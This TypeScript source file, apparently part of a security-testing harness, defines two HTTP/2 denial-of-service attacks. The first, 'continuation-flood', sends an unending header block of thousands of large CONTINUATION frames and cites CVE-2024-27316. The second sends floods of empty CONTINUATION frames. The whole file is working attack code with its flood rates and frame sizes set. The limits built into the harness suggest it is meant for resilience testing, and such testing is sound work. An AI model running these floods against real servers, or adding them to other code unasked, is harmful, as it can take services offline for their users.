import { BOUND_MIB } from "../attack.js";
import { FrameType, frame } from "../raw/frames.js";
import { CONNECT_PATH, literal, PROXY_PATH, requestBlock } from "../raw/headers.js";
import { linkAttack } from "./link.js";

export const continuationFlood = linkAttack({
  name: "continuation-flood",
  shortPlaces: ["strangers"],
  description: "a header block that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316)",
  boundMiB: BOUND_MIB,
  mustEnd: true,
  async onLink({ peer, socket, role, stream }, work) {
    const path = role === "caller" ? PROXY_PATH : CONNECT_PATH;
    const at = role === "server" ? stream : 3;
    peer.write(frame(FrameType.HEADERS, 0, at, requestBlock(path)));
    const more = frame(FrameType.CONTINUATION, 0, at, literal("x", "y".repeat(8000)));
    await work.flood(socket, more, { times: 4000, perSecond: 4000 });
  },
});

export const emptyContinuations = linkAttack({
  name: "empty-continuations",
  shortPlaces: ["agents"],
  description: "the same with CONTINUATION frames that hold nothing",
  boundMiB: BOUND_MIB,
  mustEnd: true,
  async onLink({ peer, socket, role, stream }, work) {
    const at = role === "server" ? stream : 3;
    peer.write(frame(FrameType.HEADERS, 0, at, requestBlock(role === "caller" ? PROXY_PATH : CONNECT_PATH)));
    const more = Buffer.concat(Array<Buffer>(1000).fill(frame(FrameType.CONTINUATION, 0, at)));
    await work.flood(socket, more, { times: 1000, perSecond: 1000 });
  },
});
